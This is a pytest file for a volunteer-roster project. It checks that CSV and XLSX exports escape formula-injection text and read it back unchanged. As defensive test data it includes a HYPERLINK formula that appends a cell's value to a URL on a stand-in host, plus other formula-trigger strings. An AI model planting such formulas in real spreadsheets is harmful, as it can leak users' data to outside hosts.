"""Every spreadsheet and CSV the project writes carries text as text, never a live formula.

Issue 9, defect 1: a need titled ``=HYPERLINK(...)`` came out of the roster
export as a formula.  Cells starting with ``=``, ``+``, ``-``, ``@``, tab or
CR are written with a protective quote in CSV and as string cells in XLSX;
what the project reads back (``matcher check``, the dataset loader) is the
original text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest

from matcher.calendar import build_horizon
from matcher.domain import (
    Assignment,
    AssignmentRole,
    Department,
    Membership,
    Need,
    NeedCategory,
    Pair,
    Problem,
    Role,
    Volunteer,
)
from matcher.export import write_result
from matcher.io import load_dataset, read_roster, roster_csv, roster_xlsx, write_dataset
from matcher.io.spreadsheet import escape_formula, unescape_formula
from matcher.result import Result, Status

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&D2,"open")'
DANGEROUS = (HYPERLINK, "+1", "-x", "@SUM(A1:A9)", "\tx", "\rx")
# The loader strips the spaces around every cell (as it always has), so text
# that starts with a tab or CR reads back without it; the rest reads back as is.
LOADED = {title: title.strip() for title in DANGEROUS}
# XML (inside .xlsx) reads a lone CR back as LF; still text, never a formula.
IN_XLSX = {title: title.replace("\r", "\n") for title in DANGEROUS}
TRIGGERS_READ_BACK = ("=", "+", "-", "@", "\t", "\n")


def dangerous_problem() -> Problem:
    """One volunteer, one untimed need per dangerous title; ids and a name dangerous too."""
    horizon = build_horizon(dt.date(2026, 10, 1), dt.date(2026, 10, 31))
    needs = tuple(
        Need(f"N{i}", title, NeedCategory.OTHER, 60) for i, title in enumerate(DANGEROUS, 1)
    )
    needs += (Need("-N7", "'=already quoted", NeedCategory.OTHER, 60),)
    volunteers = (
        Volunteer("@V1", "=张三", Role.TEACHER, Membership.PARTY, "+机电学院"),
        Volunteer("V2", "-李四", Role.STUDENT, Membership.LEAGUE, "+机电学院"),
    )
    return Problem(
        horizon=horizon,
        departments=(Department("+机电学院"),),
        volunteers=volunteers,
        needs=needs,
        # a negative number is a number: written as -3, not as text
        pairs=(Pair("V2", need_id="N1", affinity=-3),),
    )


def dangerous_result(problem: Problem) -> Result:
    assignments = tuple(
        Assignment(need.id, "@V1" if i % 2 else "V2", None, None, None, AssignmentRole.MEMBER)
        for i, need in enumerate(problem.needs)
    )
    return Result(Status.FEASIBLE, assignments, objective=0, bound=0, gap=0, runtime=0)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_formula(path_or_bytes: Path | bytes) -> list[list[object]]:
    """No cell of the workbook is a formula; returns the values of its first sheet."""
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    book = openpyxl.load_workbook(source)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in TRIGGERS_READ_BACK:
                    # Excel keeps it text even when the cell is edited
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize(
    "text",
    [*DANGEROUS, "'=x", "''+x", "'", "'plain", "plain", "", "2026-10-01", "张三", "=", "-"],
)
def test_escape_is_undone_exactly(text: str) -> None:
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert escaped == "'" + text
    if text in ("'plain", "plain", "", "张三", "2026-10-01"):
        assert escaped == text


def test_write_result_writes_text_not_formulas(tmp_path: Path) -> None:
    problem = dangerous_problem()
    result = dangerous_result(problem)
    write_result(problem, result, tmp_path)

    rows = csv_cells((tmp_path / "roster.csv").read_bytes())
    title_column = rows[0].index("need_title")
    titles = {row[title_column] for row in rows[1:]}
    for title in DANGEROUS:
        assert "'" + title in titles
    assert all(cell[:1] not in "=+-@\t\r" or cell == "" for row in rows for cell in row)

    values = assert_no_formula(tmp_path / "roster.xlsx")
    assert {row[1] for row in values[1:]} >= set(IN_XLSX.values())  # text, unchanged

    expected = sorted(result.assignments, key=lambda a: a.need_id)
    for name in ("roster.csv", "roster.xlsx"):
        back = read_roster(tmp_path / name)
        assert sorted(back, key=lambda a: a.need_id) == expected, name


def test_api_roster_files_write_text_not_formulas() -> None:
    rows = [
        {
            "need_id": "=1+1",
            "need_title": title,
            "volunteer_id": "-V1",
            "volunteer_name": "@name",
            "department": "+dep",
            "date": "2026-10-01",
            "start": "09:00",
            "end": "10:00",
            "role": "lead",
        }
        for title in DANGEROUS
    ]
    cells = csv_cells(roster_csv(rows))
    assert [row[1] for row in cells[1:]] == ["'" + title for title in DANGEROUS]
    assert cells[1][:5] == ["'=1+1", "'" + HYPERLINK, "'-V1", "'@name", "'+dep"]
    values = assert_no_formula(roster_xlsx(rows))
    assert [row[1] for row in values[1:]] == list(IN_XLSX.values())


@pytest.mark.parametrize("target", ["dataset", "dataset.xlsx"])
def test_dataset_round_trip_keeps_dangerous_text(tmp_path: Path, target: str) -> None:
    problem = dangerous_problem()
    path = tmp_path / target
    write_dataset(problem, path)
    if path.suffix == ".xlsx":
        assert_no_formula(path)
    else:
        needs = csv_cells((path / "needs.csv").read_bytes())
        assert all(row[1][:1] not in "=+-@\t\r" for row in needs)
        pairs = csv_cells((path / "pairs.csv").read_bytes())
        assert pairs[1][pairs[0].index("affinity")] == "-3"  # a number, not escaped
    loaded = load_dataset(path)
    titles = {need.id: need.title for need in loaded.needs}
    for need in problem.needs[: len(DANGEROUS)]:
        assert titles[need.id] == LOADED[need.title]
    assert titles["-N7"] == "'=already quoted"
    assert [v.name for v in loaded.volunteers] == ["=张三", "-李四"]
    assert loaded.pairs == problem.pairs
    plain = [need for need in problem.needs if need.title == need.title.strip()]
    assert [n for n in loaded.needs if n.id in {p.id for p in plain}] == plain
